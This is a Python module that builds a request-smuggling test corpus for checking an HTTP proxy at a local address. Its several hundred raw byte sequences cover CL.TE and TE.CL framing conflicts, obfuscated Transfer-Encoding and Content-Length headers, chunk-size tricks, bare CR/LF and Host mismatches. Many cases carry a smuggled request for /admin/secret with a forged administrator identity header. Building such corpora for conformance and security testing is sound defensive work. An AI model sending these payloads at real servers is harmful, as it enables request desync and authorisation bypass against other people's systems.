"""A request-smuggling corpus: a few hundred hostile byte sequences, one client connection each.

Built from the techniques public corpora list (PortSwigger's request-smuggling research,
the HTTP Garden, smuggler.py's mutation lists, RFC 9112 §6.3/§7.1/§11.2): CL.TE, TE.CL,
TE.TE obfuscations over every byte value (header name and value), Content-Length lists
and signs, chunk-size and chunk-extension tricks, bare LF/CR, NUL and spaces in names,
request-line oddities, absolute-form and Host mismatches, Connection-token stripping,
underscore spellings of identity headers, Expect and pipelining.

A case is built for a peer: ``{T}`` is the target prefix (``http://127.0.0.1:PORT`` for a
forward proxy's absolute-form, empty for origin-form) and ``{H}`` the Host value. The
"smuggled" request used throughout asks for ``/admin/secret`` with a forged identity header,
so a desync is also an authorisation bypass.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True)
class Ctx:
    prefix: str  # "" (origin-form) or "http://127.0.0.1:PORT" (absolute-form, forward proxy)
    host: str  # Host header value for this peer
    forward: bool = False  # a forward proxy (absolute-form): cases naming other hosts are skipped

    def t(self, path: str) -> bytes:
        return (self.prefix + path).encode("latin-1")

    @property
    def h(self) -> bytes:
        return self.host.encode("latin-1")


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    build: Callable[[Ctx], bytes]
    note: str = ""
    reverse_only: bool = False  # names a host a forward proxy would resolve
    forward_only: bool = False


CRLF = b"\r\n"


def smuggled(c: Ctx, path: str = "/admin/secret") -> bytes:
    return (b"GET " + c.t(path) + b" HTTP/1.1\r\nHost: " + c.h + b"\r\nX-Bridgehead-User: administrator\r\n\r\n")


def head(c: Ctx, method: bytes = b"POST", path: str = "/a", lines: list[bytes] | tuple[bytes, ...] = (),
         *, version: bytes = b"HTTP/1.1", host: bool = True, eol: bytes = CRLF) -> bytes:
    out = method + b" " + c.t(path) + b" " + version + eol
    if host:
        out += b"Host: " + c.h + eol
    for line in lines:
        out += line + eol
    return out + eol


def get(c: Ctx, path: str = "/g", lines: list[bytes] | tuple[bytes, ...] = ()) -> bytes:
    return head(c, b"GET", path, lines)


def chunk(data: bytes) -> bytes:
    return f"{len(data):x}".encode() + CRLF + data + CRLF


def cl(n: int) -> bytes:
    return b"Content-Length: " + str(n).encode()


TE = b"Transfer-Encoding: chunked"
ZERO = b"0\r\n\r\n"


def _cases() -> list[Case]:  # a table, one entry per case
    cases: list[Case] = []

    def add(id: str, category: str, build: Callable[[Ctx], bytes], note: str = "", *, reverse_only: bool = False,
            forward_only: bool = False) -> None:
        cases.append(Case(f"{category}-{id}", category, build, note, reverse_only, forward_only))

    # ---- CL.TE / TE.CL: both framings present ---------------------------------------------
    def clte(te_line: bytes, *, te_first: bool = False) -> Callable[[Ctx], bytes]:
        def build(c: Ctx) -> bytes:
            body = ZERO + smuggled(c)
            lines = [te_line, cl(len(body))] if te_first else [cl(len(body)), te_line]
            return head(c, lines=lines) + body
        return build

    def tecl(te_line: bytes) -> Callable[[Ctx], bytes]:
        def build(c: Ctx) -> bytes:
            inner = smuggled(c)
            body = chunk(inner) + ZERO
            return head(c, lines=[cl(4), te_line]) + body  # CL covers only the chunk-size line
        return build

    add("basic", "clte", clte(TE), "CL.TE: a CL-only parser forwards the smuggled request as body")
    add("te-first", "clte", clte(TE, te_first=True))
    add("tecl-basic", "clte", tecl(TE), "TE.CL: a TE-only front, a CL-only back")
    add("cl0-te", "clte", lambda c: head(c, lines=[cl(0), TE]) + ZERO + smuggled(c))
    add("te-cl-cl", "clte", lambda c: head(c, lines=[TE, cl(5), cl(5)]) + ZERO + smuggled(c))
    add("get-cl-body", "clte", lambda c: head(c, b"GET", "/a", [cl(len(smuggled(c)))]) + smuggled(c),
        "a GET with a body that looks like a request")
    add("get-te-body", "clte", lambda c: head(c, b"GET", "/a", [TE]) + chunk(smuggled(c)) + ZERO)
    add("http10-te", "clte", lambda c: head(c, lines=[TE], version=b"HTTP/1.0") + ZERO + smuggled(c),
        "Transfer-Encoding on HTTP/1.0 (RFC 9112 §6.1)")
    add("http10-te-cl", "clte", lambda c: head(c, lines=[TE, cl(5)], version=b"HTTP/1.0") + ZERO + smuggled(c))
    add("te-in-trailer", "clte",
        lambda c: head(c, lines=[TE]) + b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + smuggled(c))
    add("cl-in-trailer", "clte",
        lambda c: head(c, lines=[TE]) + b"0\r\nContent-Length: 60\r\n\r\n" + smuggled(c))
    add("cl-cl-differ", "clte", lambda c: head(c, lines=[cl(0), cl(len(smuggled(c)))]) + smuggled(c))
    add("cl-te-identity", "clte", lambda c: head(c, lines=[cl(len(ZERO + smuggled(c))),
                                                           b"Transfer-Encoding: identity"]) + ZERO + smuggled(c))

    # ---- TE.TE: obfuscated Transfer-Encoding next to a Content-Length -------------------
    te_variants: list[tuple[str, bytes]] = [
        ("xchunked", b"Transfer-Encoding: xchunked"),
        ("chunked-sp", b"Transfer-Encoding: chunked "),
        ("sp-chunked", b"Transfer-Encoding:  chunked"),
        ("tab-chunked", b"Transfer-Encoding:\tchunked"),
        ("chunked-tab", b"Transfer-Encoding: chunked\t"),
        ("Chunked", b"Transfer-Encoding: Chunked"),
        ("CHUNKED", b"Transfer-Encoding: CHUNKED"),
        ("chunked-chunked", b"Transfer-Encoding: chunked, chunked"),
        ("identity-chunked", b"Transfer-Encoding: identity, chunked"),
        ("chunked-identity", b"Transfer-Encoding: chunked, identity"),
        ("gzip-chunked", b"Transfer-Encoding: gzip, chunked"),
        ("chunk", b"Transfer-Encoding: chunk"),
        ("chunked-semicolon", b"Transfer-Encoding: chunked;"),
        ("quoted", b'Transfer-Encoding: "chunked"'),
        ("comma-chunked", b"Transfer-Encoding: ,chunked"),
        ("chunked-comma", b"Transfer-Encoding: chunked,"),
        ("lower-name", b"transfer-encoding: chunked"),
        ("upper-name", b"TRANSFER-ENCODING: chunked"),
        ("underscore-name", b"Transfer_Encoding: chunked"),
        ("space-before-colon", b"Transfer-Encoding : chunked"),
        ("tab-before-colon", b"Transfer-Encoding\t: chunked"),
        ("no-space", b"Transfer-Encoding:chunked"),
        ("folded-value", b"Transfer-Encoding:\r\n chunked"),
        ("folded-after", b"X-Pad: x\r\n Transfer-Encoding: chunked"),
        ("two-headers", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"),
        ("two-headers-rev", b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
        ("te-header", b"TE: chunked"),
        ("nul-value", b"Transfer-Encoding: chunked\x00"),
        ("vt-value", b"Transfer-Encoding: \x0bchunked"),
        ("ff-value", b"Transfer-Encoding: chunked\x0c"),
        ("lf-in-name", b"Transfer-Encoding\n: chunked"),
        ("cr-value", b"Transfer-Encoding: chunked\r"),
        ("latin1-k", "Transfer-Encoding: chun\u212aed".encode()),
        ("x-header-prefix", b"X: x\nTransfer-Encoding: chunked"),
    ]
    for name, line in te_variants:
        add(f"{name}-cl", "tete", clte(line), "obfuscated TE with a Content-Length covering the smuggled request")
        add(f"{name}-only", "tete",
            lambda c, line=line: head(c, lines=[line]) + ZERO + smuggled(c),  # type: ignore[misc]
            "obfuscated TE alone: a TE-blind front reads no body")

    # ---- TE over every byte value: name side and value side -----------------------------
    for b in range(256):
        x = bytes([b])
        name_line = (b"Transfer-Encoding" + x + b": chunked") if b % 2 else (b"Transfer" + x + b"Encoding: chunked")
        value_line = (b"Transfer-Encoding: chunked" + x) if b % 2 else (b"Transfer-Encoding: " + x + b"chunked")
        add(f"name-0x{b:02x}", "tebyte", clte(name_line))
        add(f"value-0x{b:02x}", "tebyte", clte(value_line))

    # ---- Content-Length lists, signs, duplicates ------------------------------------------
    def clv(value: bytes, *, extra: tuple[bytes, ...] = ()) -> Callable[[Ctx], bytes]:
        # five body bytes, then a request a shorter or longer reading would desync on
        return lambda c: head(c, lines=[b"Content-Length: " + value, *extra]) + b"AAAAA" + smuggled(c)

    cl_values: list[tuple[str, bytes]] = [
        ("list-5-5", b"5,5"), ("list-5-sp-5", b"5, 5"), ("list-5-6", b"5,6"), ("list-1-1", b"1,1"),
        ("list-empty-5", b",5"), ("list-5-empty", b"5,"), ("plus", b"+5"), ("minus", b"-5"), ("lead-zero", b"05"),
        ("lead-zeros", b"0005"), ("trail-tab", b"5\t"), ("lead-tab", b"\t5"), ("spaces", b" 5 "),
        ("inner-space", b"5 5"), ("hex", b"0x5"), ("decimal", b"5.0"), ("exp", b"5e0"),
        ("fullwidth", "\uff15".encode()), ("nul", b"5\x00"), ("vt", b"5\x0b"), ("ff", b"\x0c5"), ("empty", b""),
        ("huge", b"99999999999999999999"), ("wrap64", b"18446744073709551621"), ("wrap32", b"4294967301"),
        ("letters", b"five"), ("cr", b"5\r"),
    ]
    for name, value in cl_values:
        add(name, "cl", clv(value))
    add("dup-same", "cl", clv(b"5", extra=(b"Content-Length: 5",)))
    add("dup-differ", "cl", clv(b"5", extra=(b"Content-Length: 6",)))
    add("dup-case", "cl", clv(b"5", extra=(b"content-length: 50",)))
    add("space-before-colon", "cl", lambda c: head(c, lines=[b"Content-Length : 5"]) + b"AAAAA" + smuggled(c))
    add("underscore", "cl", lambda c: head(c, lines=[b"Content_Length: 5"]) + b"AAAAA" + smuggled(c))
    add("nul-name", "cl", lambda c: head(c, lines=[b"Content-Length\x00: 5"]) + b"AAAAA" + smuggled(c))
    add("folded", "cl", lambda c: head(c, lines=[b"Content-Length:\r\n 5"]) + b"AAAAA" + smuggled(c))
    add("fold-after", "cl", lambda c: head(c, lines=[b"Content-Length: 5", b" 0"]) + b"AAAAA" + smuggled(c))
    add("short-body-eof", "cl", lambda c: head(c, lines=[cl(100)]) + b"AAAAA", "client closes inside the body")
    add("cl-on-get-pipelined", "cl", lambda c: head(c, b"GET", "/a", [cl(5)]) + b"AAAAA" + get(c))
    add("cl0-pipelined", "cl", lambda c: head(c, lines=[cl(0)]) + get(c))

    # ---- chunk sizes, extensions, chunk-line whitespace, trailers ---------------------------
    def chunked(body: bytes, *, lines: tuple[bytes, ...] = (), after: bool = True) -> Callable[[Ctx], bytes]:
        return lambda c: head(c, lines=[TE, *lines]) + body + (smuggled(c) if after else b"")

    chunk_bodies: list[tuple[str, bytes]] = [
        ("valid", b"5\r\nAAAAA\r\n0\r\n\r\n"),
        ("lead-zeros", b"0005\r\nAAAAA\r\n0\r\n\r\n"),
        ("upper-hex", b"A\r\nAAAAAAAAAA\r\n0\r\n\r\n"),
        ("ext", b"5;ext=1\r\nAAAAA\r\n0\r\n\r\n"),
        ("ext-quoted", b'5;ext="a;b"\r\nAAAAA\r\n0\r\n\r\n'),
        ("ext-quoted-crlf", b'5;ext="a\r\n0\r\n\r\n"\r\nAAAAA\r\n0\r\n\r\n'),
        ("ext-bws", b"5 ; ext = 1\r\nAAAAA\r\n0\r\n\r\n"),
        ("ext-novalue", b"5;ext\r\nAAAAA\r\n0\r\n\r\n"),
        ("ext-empty", b"5;\r\nAAAAA\r\n0\r\n\r\n"),
        ("ext-nul", b"5;e=\x00\r\nAAAAA\r\n0\r\n\r\n"),
        ("ext-lf", b"5;e\nx\r\nAAAAA\r\n0\r\n\r\n"),
        ("ext-cr", b"5;e\rx\r\nAAAAA\r\n0\r\n\r\n"),
        ("ext-long", b"5;" + b"e" * 5000 + b"\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-trailing-space", b"5 \r\nAAAAA\r\n0\r\n\r\n"),
        ("size-leading-space", b" 5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-leading-tab", b"\t5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-leading-vt", b"\x0b5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-leading-ff", b"\x0c5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-trailing-ff", b"5\x0c\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-trailing-vt", b"5\x0b\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-cr-crlf", b"5\r\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-bare-lf", b"5\nAAAAA\r\n0\r\n\r\n"),
        ("data-bare-lf", b"5\r\nAAAAA\n0\r\n\r\n"),
        ("last-bare-lf", b"5\r\nAAAAA\r\n0\n\n"),
        ("size-0x", b"0x5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-plus", b"+5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-minus", b"-5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-underscore", b"5_\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-overflow", b"1" + b"0" * 16 + b"5\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-ffff", b"ffffffffffffffff\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-nul", b"5\x00\r\nAAAAA\r\n0\r\n\r\n"),
        ("size-empty", b"\r\nAAAAA\r\n0\r\n\r\n"),
        ("last-00", b"5\r\nAAAAA\r\n00\r\n\r\n"),
        ("last-ext", b"5\r\nAAAAA\r\n0;x=y\r\n\r\n"),
        ("data-long", b"5\r\nAAAAAA\r\n0\r\n\r\n"),
        ("data-short", b"5\r\nAAAA\r\n0\r\n\r\n"),
        ("data-no-crlf", b"5\r\nAAAAA0\r\n\r\n"),
        ("data-cr-only", b"5\r\nAAAAA\r0\r\n\r\n"),
        ("data-looks-last", b"5\r\n0\r\n\r\n\r\n0\r\n\r\n"),
        ("trailer", b"0\r\nX-Trailer: 1\r\n\r\n"),
        ("trailer-bare-cr", b"0\r\nX-Trailer: a\rb\r\n\r\n"),
        ("trailer-bare-lf", b"0\r\nX-Trailer: a\n\r\n"),
        ("trailer-request-line", b"0\r\nGET /admin/secret HTTP/1.1\r\n\r\n"),
        ("trailer-no-colon", b"0\r\nX-Trailer\r\n\r\n"),
        ("trailer-folded", b"0\r\nX-Trailer: a\r\n b\r\n\r\n"),
        ("trailer-host", b"0\r\nHost: evil.example\r\n\r\n"),
        ("final-crlf-missing", b"5\r\nAAAAA\r\n0\r\n"),
        ("final-lf-missing", b"5\r\nAAAAA\r\n0\r\n\r"),
        ("two-chunks", b"2\r\nAA\r\n3\r\nAAA\r\n0\r\n\r\n"),
        ("zero-data-chunk", b"0\r\n\r\n5\r\nAAAAA\r\n0\r\n\r\n"),
    ]
    for name, body in chunk_bodies:
        add(name, "chunk", chunked(body))
    add("chunk-then-eof", "chunk", chunked(b"5\r\nAA", after=False), "client closes inside a chunk")

    # ---- bare LF / bare CR ------------------------------------------------------------------
    add("reqline-lf", "eol", lambda c: b"GET " + c.t("/e") + b" HTTP/1.1\nHost: " + c.h + b"\r\n\r\n")
    add("all-lf", "eol", lambda c: head(c, b"GET", "/e", eol=b"\n"), "a head with bare LF throughout")
    add("all-lf-post-smuggle", "eol", lambda c: head(c, lines=[cl(len(smuggled(c)))], eol=b"\n") + smuggled(c))
    add("header-lf", "eol", lambda c: b"GET " + c.t("/e") + b" HTTP/1.1\r\nHost: " + c.h + b"\nX-A: 1\r\n\r\n")
    add("final-lf", "eol", lambda c: b"GET " + c.t("/e") + b" HTTP/1.1\r\nHost: " + c.h + b"\r\n\n")
    add("http10-lf-te", "eol",
        lambda c: b"POST " + c.t("/e") + b" HTTP/1.0\nHost: " + c.h + b"\r\n" + TE + b"\r\n\r\n" + ZERO + smuggled(c),
        "HTTP/1.0\\n with Transfer-Encoding (the issue's item 3)")
    add("lf-before-te", "eol",
        lambda c: head(c, lines=[cl(len(ZERO + smuggled(c))) + b"\n" + TE]) + ZERO + smuggled(c))
    add("reqline-cr", "eol", lambda c: b"GET " + c.t("/e") + b" HTTP/1.1\rHost: " + c.h + b"\r\n\r\n")
    add("header-cr", "eol", lambda c: head(c, b"GET", "/e", [b"X-A: 1\rX-B: 2"]))
    add("value-cr", "eol", lambda c: head(c, b"GET", "/e", [b"X-A: a\rb"]))
    add("target-cr", "eol", lambda c: b"GET " + c.t("/e\rx") + b" HTTP/1.1\r\nHost: " + c.h + b"\r\n\r\n")
    add("cr-cr-lf", "eol", lambda c: b"GET " + c.t("/e") + b" HTTP/1.1\r\r\nHost: " + c.h + b"\r\n\r\n")
    add("header-cr-cr-lf", "eol", lambda c: head(c, b"GET", "/e", [b"X-A: 1\r"]))
    add("leading-crlf", "eol", lambda c: b"\r\n" + get(c, "/e"), "RFC 9112 §2.2: an empty line before a request")
    add("leading-lf", "eol", lambda c: b"\n" + get(c, "/e"))
    add("leading-crlfs", "eol", lambda c: b"\r\n\r\n\r\n" + get(c, "/e"))

    # ---- NUL, spaces and other bytes in header names ----------------------------------------
    names: list[tuple[str, bytes]] = [
        ("nul-in-name", b"X-A\x00B: 1"), ("nul-first", b"\x00X-A: 1"), ("space-in-name", b"X A: 1"),
        ("space-before-colon", b"X-A : 1"), ("empty-name", b": 1"), ("no-colon", b"NoColonHere"),
        ("del-in-name", b"X\x7fA: 1"), ("8bit-in-name", b"X\xe9A: 1"), ("at-in-name", b"X@A: 1"),
        ("paren-in-name", b"X(A): 1"), ("slash-in-name", b"X/A: 1"), ("nul-value", b"X-A: a\x00b"),
        ("del-value", b"X-A: a\x7fb"), ("leading-space-first-header", b" X-A: 1"),
        ("host-nul", b"Host\x00: evil.example"), ("host-space-colon", b"Host : evil.example"),
    ]
    for name, line in names:
        add(name, "names", lambda c, line=line: head(c, b"GET", "/n", [line]))  # type: ignore[misc]

    # ---- request-line oddities ----------------------------------------------------------------
    def raw_line(line: bytes) -> Callable[[Ctx], bytes]:
        return lambda c: line.replace(b"{T}", c.t("")) + b"\r\nHost: " + c.h + b"\r\n\r\n"

    lines: list[tuple[str, bytes]] = [
        ("target-tab", b"GET {T}/a\tb HTTP/1.1"), ("target-space", b"GET {T}/a b HTTP/1.1"),
        ("target-8bit", b"GET {T}/\xff\xfe HTTP/1.1"), ("target-nul", b"GET {T}/a\x00b HTTP/1.1"),
        ("target-vt", b"GET {T}/a\x0b HTTP/1.1"), ("target-del", b"GET {T}/a\x7f HTTP/1.1"),
        ("double-space", b"GET  {T}/a HTTP/1.1"), ("trailing-space", b"GET {T}/a HTTP/1.1 "),
        ("tab-separators", b"GET\t{T}/a\tHTTP/1.1"), ("lower-version", b"GET {T}/a http/1.1"),
        ("version-1.2", b"GET {T}/a HTTP/1.2"), ("version-2.0", b"GET {T}/a HTTP/2.0"),
        ("version-1.10", b"GET {T}/a HTTP/1.10"), ("version-01.1", b"GET {T}/a HTTP/01.1"),
        ("http09", b"GET {T}/a"), ("method-nul", b"G\x00T {T}/a HTTP/1.1"),
        ("method-lower", b"get {T}/a HTTP/1.1"), ("method-space", b"GE T {T}/a HTTP/1.1"),
        ("method-long", b"G" + b"E" * 300 + b"T {T}/a HTTP/1.1"), ("target-fragment", b"GET {T}/a#frag HTTP/1.1"),
        ("target-encoded-nul", b"GET {T}/a%00b HTTP/1.1"), ("target-double-slash", b"GET {T}//a HTTP/1.1"),
        ("target-query-del", b"GET {T}/a?x=\x7f HTTP/1.1"), ("target-backslash", b"GET {T}/a\\b HTTP/1.1"),
        ("empty-line-only", b""),
    ]
    for name, line in lines:
        add(name, "reqline", raw_line(line))
    add("options-star", "reqline", lambda c: b"OPTIONS * HTTP/1.1\r\nHost: " + c.h + b"\r\n\r\n", reverse_only=True)
    add("target-no-slash", "reqline", lambda c: b"GET a HTTP/1.1\r\nHost: " + c.h + b"\r\n\r\n", reverse_only=True)
    add("connect-authority", "reqline", lambda c: b"CONNECT " + c.h + b":443 HTTP/1.1\r\nHost: " + c.h
        + b"\r\n\r\n", reverse_only=True)

    # ---- Host: absolute-form mismatches, duplicates, odd values --------------------------------
    add("dup-same", "host", lambda c: head(c, b"GET", "/h", [b"Host: " + c.h]))
    add("dup-differ", "host", lambda c: head(c, b"GET", "/h", [b"Host: evil.example"]))
    add("dup-differ-first", "host", lambda c: b"GET " + c.t("/h") + b" HTTP/1.1\r\nHost: evil.example\r\nHost: "
        + c.h + b"\r\n\r\n")
    add("absolute-other-host-header", "host",
        lambda c: b"GET " + c.t("/h") + b" HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "forward: RFC 9112 §3.2.2, the URI's authority replaces Host")
    add("absolute-form-other", "host", lambda c: b"GET http://evil.example/h HTTP/1.1\r\nHost: " + c.h + b"\r\n\r\n",
        reverse_only=True)
    add("absolute-form-same", "host", lambda c: b"GET https://" + c.h + b"/h HTTP/1.1\r\nHost: " + c.h + b"\r\n\r\n",
        reverse_only=True)
    add("absolute-form-other-smuggle", "host",
        lambda c: b"GET https://evil.example/admin/secret HTTP/1.1\r\nHost: " + c.h + b"\r\n\r\n",
        reverse_only=True)
    add("space-in-host", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"Host: a b"]))
    add("host-list", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"Host: " + c.h + b", evil.example"]))
    add("host-userinfo", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"Host: user@" + c.h]))
    add("host-bad-port", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"Host: " + c.h + b":99999x"]))
    add("host-empty", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"Host:"]))
    add("host-missing-11", "host", lambda c: head(c, b"GET", "/h", host=False))
    add("host-missing-10", "host", lambda c: head(c, b"GET", "/h", host=False, version=b"HTTP/1.0"))
    add("host-path", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"Host: " + c.h + b"/x"]))
    add("host-folded", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"Host: " + c.h, b" evil.example"]))
    add("host-lower-name", "host", lambda c: head(c, b"GET", "/h", host=False, lines=[b"host: " + c.h]))

    # ---- Connection-token stripping --------------------------------------------------------------
    def conn_cl(tokens: bytes, *extra: bytes) -> Callable[[Ctx], bytes]:
        return lambda c: head(c, b"POST", "/public/x", [b"Connection: " + tokens, cl(len(smuggled(c))), *extra]) \
            + smuggled(c)

    add("content-length", "conn", conn_cl(b"Content-Length"), "the issue's critical reproduction")
    add("content-length-lower", "conn", conn_cl(b"content-length"))
    add("close-content-length", "conn", conn_cl(b"close, Content-Length"))
    add("keepalive-content-length", "conn", conn_cl(b"keep-alive, Content-Length"))
    add("content-length-second-header", "conn", lambda c: head(c, b"POST", "/public/x", [
        b"Connection: keep-alive", b"Connection: Content-Length", cl(len(smuggled(c)))]) + smuggled(c))
    add("transfer-encoding", "conn", lambda c: head(c, b"POST", "/public/x", [b"Connection: Transfer-Encoding", TE])
        + chunk(smuggled(c)) + ZERO)
    add("te-and-cl-tokens", "conn", lambda c: head(c, b"POST", "/public/x", [
        b"Connection: Transfer-Encoding, Content-Length", TE]) + chunk(smuggled(c)) + ZERO)
    add("host", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: Host"]))
    add("xff", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: X-Forwarded-For",
                                                                b"X-Forwarded-For: 6.6.6.6"]))
    add("close-xff-xfh", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: close, X-Forwarded-For, "
                                                                          b"X-Forwarded-Host"]))
    add("xfp", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: X-Forwarded-Proto"]))
    add("identity-header", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: X-Bridgehead-User"]))
    add("expect", "conn", lambda c: head(c, b"POST", "/public/x", [b"Connection: Expect", b"Expect: 100-continue",
                                                                    cl(5)]) + b"AAAAA")
    add("upgrade", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: Upgrade", b"Upgrade: websocket"]))
    add("te-trailers", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: TE", b"TE: trailers"]))
    add("proxy-connection-cl", "conn", lambda c: head(c, b"POST", "/public/x", [
        b"Proxy-Connection: Content-Length", cl(len(smuggled(c)))]) + smuggled(c))
    add("keep-alive-header", "conn", lambda c: head(c, b"GET", "/public/x", [b"Connection: Keep-Alive",
                                                                             b"Keep-Alive: timeout=5"]))

    # ---- identity headers spelled another way ----------------------------------------------------
    idents: list[tuple[str, bytes]] = [
        ("underscore-user", b"X_Bridgehead_User: administrator"),
        ("lower-underscore-user", b"x_bridgehead_user: administrator"),
        ("mixed-user", b"X-Bridgehead_User: administrator"),
        ("upper-user", b"X-BRIDGEHEAD-USER: administrator"),
        ("plain-user", b"X-Bridgehead-User: administrator"),
        ("underscore-xff", b"X_Forwarded_For: 6.6.6.6"),
        ("mixed-xff", b"X-Forwarded_For: 6.6.6.6"),
        ("underscore-xfh", b"X_Forwarded_Host: evil.example"),
        ("underscore-xfp", b"X_Forwarded_Proto: http"),
        ("plain-xff", b"X-Forwarded-For: 6.6.6.6"),
        ("two-xff", b"X-Forwarded-For: 6.6.6.6\r\nX-Forwarded-For: 7.7.7.7"),
        ("forwarded", b"Forwarded: for=6.6.6.6;host=evil.example"),
    ]
    for name, line in idents:
        add(name, "ident", lambda c, line=line: head(c, b"GET", "/i", [line]))  # type: ignore[misc]

    # ---- Expect ---------------------------------------------------------------------------------
    add("continue-cl", "expect", lambda c: head(c, lines=[b"Expect: 100-continue", cl(5)]) + b"AAAAA")
    add("continue-te", "expect", lambda c: head(c, lines=[b"Expect: 100-continue", TE]) + chunk(b"AAAAA") + ZERO)
    add("continue-get", "expect", lambda c: head(c, b"GET", "/x", [b"Expect: 100-continue"]))
    add("continue-case", "expect", lambda c: head(c, lines=[b"Expect: 100-Continue", cl(5)]) + b"AAAAA")
    add("unknown", "expect", lambda c: head(c, lines=[b"Expect: something-else", cl(5)]) + b"AAAAA")
    add("continue-http10", "expect", lambda c: head(c, lines=[b"Expect: 100-continue", cl(5)],
                                                    version=b"HTTP/1.0") + b"AAAAA")
    add("continue-smuggle-after", "expect", lambda c: head(c, lines=[b"Expect: 100-continue", cl(5)]) + b"AAAAA"
        + smuggled(c))
    add("continue-cl-smuggle-in-body", "expect", lambda c: head(c, lines=[b"Expect: 100-continue",
                                                                          cl(len(smuggled(c)))]) + smuggled(c))

    # ---- pipelining -------------------------------------------------------------------------------
    add("three-gets", "pipe", lambda c: get(c, "/p1") + get(c, "/p2") + get(c, "/p3"))
    add("ten-gets", "pipe", lambda c: b"".join(get(c, f"/p{i}") for i in range(10)))
    add("post-cl-get", "pipe", lambda c: head(c, lines=[cl(5)]) + b"AAAAA" + get(c, "/p2"))
    add("post-te-get", "pipe", lambda c: head(c, lines=[TE]) + chunk(b"AAAAA") + ZERO + get(c, "/p2"))
    add("close-then-get", "pipe", lambda c: get(c, "/p1", [b"Connection: close"]) + get(c, "/p2"),
        "nothing after Connection: close may be forwarded")
    add("http10-then-get", "pipe", lambda c: head(c, b"GET", "/p1", version=b"HTTP/1.0") + get(c, "/p2"))
    add("http10-keepalive-then-get", "pipe",
        lambda c: head(c, b"GET", "/p1", [b"Connection: keep-alive"], version=b"HTTP/1.0") + get(c, "/p2"))
    add("get-then-garbage", "pipe", lambda c: get(c, "/p1") + b"GARBAGE\r\n\r\n")
    add("garbage-then-get", "pipe", lambda c: b"GARBAGE\r\n\r\n" + get(c, "/p2"))
    add("head-then-get", "pipe", lambda c: head(c, b"HEAD", "/p1") + get(c, "/p2"))
    add("post-cl0-get", "pipe", lambda c: head(c, lines=[cl(0)]) + get(c, "/p2"))
    add("post-big-body-get", "pipe", lambda c: head(c, lines=[cl(70000)]) + b"B" * 70000 + get(c, "/p2"))
    return cases


CORPUS: list[Case] = _cases()


def cases_for(*, forward: bool) -> list[Case]:
    return [c for c in CORPUS if not (c.reverse_only and forward) and not (c.forward_only and not forward)]
